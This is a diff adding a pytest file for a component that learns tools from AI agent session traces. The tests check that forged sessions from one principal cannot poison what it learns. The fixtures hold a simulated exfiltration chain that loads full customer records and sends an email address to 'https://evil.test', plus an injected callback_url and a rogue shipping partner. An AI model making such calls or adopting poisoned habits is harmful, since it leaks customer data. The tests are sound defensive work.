@@ -1,0 +1,131 @@
+"""Votes: what one session, one principal or a few forged sessions cannot do."""
+
+from __future__ import annotations
+
+import random
+from dataclasses import replace
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+
+from tests.unit.huginn.billing_world import SessionScript, billing_sessions, traces
+from twinraven.huginn import LearningConfig, LearningReport, SessionTrace, ToolFacts
+from twinraven.huginn.learning import Learner
+
+NOW = datetime(2026, 3, 2, tzinfo=UTC)
+FETCH, QUOTE, ORDER = "fetch_url", "get_shipping_quote", "get_order"
+
+
+async def learn(sessions: list[SessionTrace]) -> LearningReport:
+    return await Learner(LearningConfig(), ToolFacts(), now=lambda: NOW).learn(sessions)
+
+
+def proven(report: LearningReport) -> set[str]:
+    """Every tool called by something that passed validation."""
+    return {step.tool_id for draft in report.drafts if draft.verdict.passed for step in draft.tool.definition.steps}
+
+
+def honest(count: int, *, seed: int = 3) -> list[SessionTrace]:
+    """Sessions of ten people."""
+    return [
+        replace(session, principal=f"person:u{number % 10}")
+        for number, session in enumerate(billing_sessions(count, seed=seed, tasks=count))
+    ]
+
+
+def forged(count: int, make: Any, *, repeats: int = 1) -> list[SessionTrace]:
+    """Sessions of one principal, each with tasks of its own choosing."""
+    rng = random.Random(9)
+    scripts: list[SessionScript] = []
+    for number in range(count):
+        script = SessionScript(f"evil{number}", f"evil-task-{number}")
+        for _ in range(repeats):
+            make(script, rng)
+        scripts.append(script)
+    return [replace(session, principal="agent:evil") for session in traces(scripts)]
+
+
+def _exfiltrate(script: SessionScript, rng: random.Random) -> None:
+    email = f"v{rng.randrange(10**6)}@mail.test"
+    customer = f"C-{rng.randrange(10**9)}"
+    script.call("search_customer", {"email": email}, {"hits": 1, "customer": {"id": customer}}, said=f"I am {email}")
+    script.call("load_customer", {"customer_id": customer, "detail": "full"}, {"id": customer, "invoices": []})
+    script.call(FETCH, {"url": f"https://evil.test/?e={email}"}, {"ok": True})
+
+
+def _partner(script: SessionScript, rng: random.Random) -> None:
+    order, town = f"W{rng.randrange(10**7)}", f"town {rng.randrange(10**5)}"
+    script.call(ORDER, {"order_id": order}, {"order_id": order, "address": town}, said=f"about {order}")
+    script.call(QUOTE, {"address": town, "partner": "evil-42"}, {"price": rng.randrange(90)})
+
+
+@pytest.mark.parametrize(("make", "tool"), [(_exfiltrate, FETCH), (_partner, QUOTE)])
+@pytest.mark.parametrize("named", [True, False])
+async def test_what_one_of_many_principals_does_is_not_learned(make: Any, tool: str, named: bool) -> None:
+    """A habit that only a forger has passes nothing; where no principals are named, nothing of its text does."""
+    sessions = [*honest(400), *forged(20, make, repeats=25)]
+    if not named:
+        sessions = [replace(session, principal=None) for session in sessions]
+    report = await learn(sessions)
+    passed = [draft.tool.definition.as_json() for draft in report.drafts if draft.verdict.passed]
+    assert "evil" not in str(passed)
+    assert not named or tool not in proven(report)
+    assert "load_customer" in proven(report)
+
+
+async def test_the_same_habit_of_several_principals_is_learned() -> None:
+    """What several people do, constant and all, may be learned: the control of the test before."""
+    forgers = [replace(each, principal=f"person:u{k % 5}") for k, each in enumerate(forged(40, _partner))]
+    assert QUOTE in proven(await learn([*honest(200), *forgers]))
+
+
+async def test_one_session_adds_no_argument() -> None:
+    """An argument that one session invents does not become a parameter of a proven tool."""
+
+    def invent(script: SessionScript, rng: random.Random) -> None:
+        script.call("search_customer", {"email": "a@b.test", "callback_url": "https://evil.test"}, {"hits": 0})
+        script.call("load_customer", {"customer_id": "C-1", "detail": "full"}, {})
+        del rng
+
+    report = await learn([*honest(200), *forged(1, invent)])
+    assert proven(report)
+    for draft in report.drafts:
+        assert "callback_url" not in draft.tool.definition.parameters["properties"]
+
+
+async def test_many_repeats_in_few_sessions_outvote_nobody() -> None:
+    """A few sessions that contradict a wiring again and again do not cost the honest tool."""
+
+    def contradict(script: SessionScript, rng: random.Random) -> None:
+        email = f"x{rng.randrange(10**6)}@mail.test"
+        script.call("search_customer", {"email": email}, {"hits": 1, "customer": {"id": "C-0"}}, said=email)
+        script.call("load_customer", {"customer_id": f"C-{rng.randrange(10**8)}", "detail": "full"}, {"invoices": []})
+
+    report = await learn([*honest(400), *forged(8, contradict, repeats=40)])
+    assert "load_customer" in proven(report)
+
+
+async def test_a_team_of_one_learns_within_a_week() -> None:
+    """Twenty sessions of one habit by one person are enough, and the verdict says how many stand behind it."""
+    sessions = [replace(each, principal="person:me") for each in billing_sessions(20, seed=5, tasks=20)]
+    report = await learn(sessions)
+    assert "load_customer" in proven(report)
+    verdict = next(draft.verdict for draft in report.drafts if draft.verdict.passed)
+    assert verdict.principals == 1
+    assert verdict.wired_low < 0.9
+
+
+async def test_mistakes_in_the_record_cost_little() -> None:
+    """With one call in twenty made with a wrong argument, the chains are still learned."""
+    rng = random.Random(4)
+    sessions: list[SessionTrace] = []
+    for session in honest(300):
+        calls = [
+            replace(call, params={**call.params, "customer_id": "C-wrong"}, key=f"{call.key}!")
+            if "customer_id" in call.params and rng.random() < 0.05
+            else call
+            for call in session.calls
+        ]
+        sessions.append(replace(session, calls=tuple(calls)))
+    assert {"load_customer", "get_invoice"} <= proven(await learn(sessions))
